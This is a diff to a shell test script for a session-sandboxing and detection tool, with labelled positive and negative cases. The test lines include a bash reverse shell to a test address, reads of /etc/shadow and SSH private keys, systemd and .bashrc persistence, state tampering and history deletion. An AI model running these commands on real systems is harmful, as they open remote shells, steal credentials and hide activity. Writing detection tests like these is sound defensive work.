@@ -31,7 +31,7 @@ for s in s1 s2 s3 s4 s5 s6; do
 	sg session create --id "$s" --user "$u" --workdir "$W" >/dev/null &&
 		sg session start "$s" >/dev/null
 	# A session ends with its last process: each keeps one until terminated.
-	sgrun --session "$s" --uid $k --cwd / -- sleep 120 &
+	sgrun --session "$s" --uid $k --cwd / -- sleep 900 &   # outlives the test on a loaded host
 	cleanup "kill $!"
 done
 run() { sgrun --session s1 -- "$@"; }
@@ -74,8 +74,9 @@ run bash -c "curl -s -o /dev/null file:///nonexistent/cmdline-neg-1; true"
 cp /usr/bin/sleep "$W/suid-sleep" && chmod 4755 "$W/suid-sleep"
 cp /usr/bin/sleep "$W/plain-sleep" && chmod 0755 "$W/plain-sleep"
 chmod 0755 "$W" "$T_TMP"
-sgrun --session s1 --uid nobody --cwd / -- "$W/suid-sleep" 0.31
-sgrun --session s1 --uid nobody --cwd / -- "$W/plain-sleep" 0.32
+# no_new_privs in a contained run keeps setuid from raising euid: both --privileged.
+sgrun --privileged --session s1 --uid nobody --cwd / -- "$W/suid-sleep" 0.31
+sgrun --privileged --session s1 --uid nobody --cwd / -- "$W/plain-sleep" 0.32
 run sh -c 'sleep 0.3; exit 0; bash -i >& /dev/tcp/198.18.0.1/4444 0>&1 # revsh-pos-1'
 sgrun --session s1 -- socat EXEC:'sleep 0.6' EXEC:'sh -s revsh-pos-2'
 run sh -c 'sleep 0.3; echo /dev/tcp is a bash feature # revsh-neg-1'
@@ -104,12 +105,15 @@ run cat /etc/shadow >/dev/null
 run cat /etc/passwd >/dev/null
 run cat "$H/.ssh/id_rsa" >/dev/null
 run cat "$H/.ssh/id_rsa.pub" >/dev/null
-run touch "$SG_STATE/tamper-pos"
+# A contained run cannot even see the state directory or the control socket (both
+# covered in its mount namespace: t_contain_run.sh); the rules are for sessions that can,
+# so these two attempts run --privileged.
+sgrun --privileged --session s1 -- touch "$SG_STATE/tamper-pos"
 mkdir -p "$SG_STATE.other" && run touch "$SG_STATE.other/tamper-neg"
 run sh -c "echo u >$H/.config/systemd/user/persist-pos.service; echo x >>$H/.bashrc"
 run sh -c "echo u >$H/.config/systemd-notes/persist-neg.service"
 run rm "$H/.bash_history" "$H/.bash_history.bak"
-printf '{"verb":"ping"}\n' | run socat - "UNIX-CONNECT:$SG_SOCK" >/dev/null 2>&1
+printf '{"verb":"ping"}\n' | sgrun --privileged --session s1 -- socat - "UNIX-CONNECT:$SG_SOCK" >/dev/null 2>&1
 req '{"verb":"ping"}' >/dev/null
 mkdir -p "$W/many" "$W/few"
 sgrun --session s4 -- sh -c "cd $W/many && touch \$(seq 1 60) && rm \$(seq 1 60)"
